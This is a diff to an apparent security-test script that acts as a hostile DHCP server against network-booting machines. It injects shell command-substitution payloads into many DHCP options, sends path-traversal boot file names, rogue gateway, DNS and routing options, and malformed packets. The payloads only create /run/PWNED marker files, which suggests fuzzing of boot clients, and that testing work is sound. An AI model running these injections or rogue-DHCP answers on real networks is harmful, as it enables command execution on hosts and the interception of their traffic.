@@ -4,8 +4,8 @@
 
 Answers DHCP: firmware and iPXE are booted as the README says; the operating
 system's client gets a working address and, with it, everything that some
-initramfs or other has been fooled with, each input with a mark of its own
-(PWNED-dhcp-NAME). A malformed twin goes before every answer. Router
+initramfs or other has been fooled with, each option with a mark of its own
+(PWNED-dhcp and its number). A malformed twin goes before every answer. Router
 advertisements and LLDP frames are sent all the time. Says what it did, one
 line each, on standard output.
 """
@@ -27,7 +27,12 @@ def opt(code, value):
 
 
 def shell(name):
-    return f"x$(touch /run/PWNED-dhcp-{name});`touch /run/PWNED-dhcp-{name}`\n'\"|touch /run/PWNED-dhcp-{name}\n".encode()
+    """Short, as all of it must fit one frame: DHCP clients reassemble nothing."""
+    return f"x$(>/run/PWNED-dhcp{name})\n`>/run/PWNED-dhcp{name}`".encode()
+
+
+def evil_option(code, before=b""):
+    return opt(code, before + shell(code))
 
 
 def labels(text):
@@ -36,14 +41,13 @@ def labels(text):
 
 def hostile():
     o = opt(3, ip(address)) + opt(6, ip(evil)) + opt(28, ip("255.255.255.255")) + opt(42, ip(evil))
-    o += opt(12, shell("hostname")) + opt(15, shell("domain")) + opt(17, b"iscsi:@" + evil.encode() + b"::::" + shell("root-path"))
-    o += opt(119, labels(shell("search"))) + opt(26, struct.pack(">H", 68)) + opt(33, ip("10.66.0.1") + ip(evil))
     # the parent itself by way of the attacker, and a default route
     o += opt(121, b"\x20" + ip(address) + ip(evil) + b"\x00" + ip(evil)) + opt(249, b"\x08\x0a" + ip(evil))
-    o += opt(40, shell("nis")) + opt(64, shell("nis+")) + opt(66, shell("tftp")) + opt(67, b"../../../../init" + shell("bootfile"))
-    o += opt(43, shell("vendor")) + opt(100, shell("timezone")) + opt(101, shell("timezone2")) + opt(114, shell("url"))
-    o += opt(14, shell("dump")) + opt(18, b"/etc/" + shell("extensions")) + opt(209, shell("config")) + opt(210, b"../" + shell("prefix"))
-    o += opt(224, shell("site")) + opt(252, shell("wpad")) + opt(203, b"nfs:" + shell("nfsroot")) + opt(220, bytes(range(256)) * 2)
+    o += opt(26, struct.pack(">H", 68)) + opt(33, ip("10.66.0.1") + ip(evil)) + opt(220, bytes(range(32)) + b"\n\0\xff")
+    o += opt(119, labels(shell(119))) + evil_option(17, b"iscsi:@" + evil.encode() + b"::::")
+    o += evil_option(67, b"../../init") + evil_option(18, b"/etc/") + evil_option(203, b"nfs:") + evil_option(210, b"../")
+    for code in (12, 15, 14, 40, 43, 64, 66, 100, 101, 114, 209, 224, 252):
+        o += evil_option(code)
     return o
 
 
@@ -51,7 +55,9 @@ def answer(q, kind, options, yiaddr, filename=b""):
     head = struct.pack(">BBBBIHH4s4s4s4s16s64s128s", 2, 1, 6, 0, q["xid"], 0, 0x8000, bytes(4), ip(yiaddr), ip(address),
                        bytes(4), q["chaddr"], b"", filename)
     o = opt(53, bytes([kind])) + opt(54, ip(address)) + opt(51, struct.pack(">I", 3600)) + opt(1, ip("255.255.255.0"))
-    return head + b"\x63\x82\x53\x63" + o + options + b"\xff"
+    b = head + b"\x63\x82\x53\x63" + o + options + b"\xff"
+    assert len(b) <= 1472, len(b)
+    return b
 
 
 def parse(b):
@@ -82,10 +88,10 @@ def dhcp(s):
         elif o.get(60, b"").startswith(b"PXEClient"):
             who, more, name = "firmware", opt(66, address.encode()) + opt(67, b"snponly.efi\0"), b"snponly.efi"
         else:
-            who, more, name = "system", hostile(), b"../" + shell("file")[:100]
+            who, more, name = "system", hostile(), b"../" + shell("file")
             # the same with an option that is longer than the packet, and with empty ones and no end
             s.sendto(answer(q, kind, more, client, name)[:-1] + b"\x0f\xffshort", ("255.255.255.255", 68))
-            s.sendto(answer(q, kind, more + b"\x0c\x00\x0f\x00\x11\x00\x77\x00" + bytes(300), client, name)[:-40], ("255.255.255.255", 68))
+            s.sendto(answer(q, kind, more + b"\x0c\x00\x0f\x00\x11\x00\x77\x00" + bytes(40), client, name)[:-20], ("255.255.255.255", 68))
         s.sendto(answer(q, kind, more, client, name), ("255.255.255.255", 68))
         if (who, kind) not in said:
             said.add((who, kind))
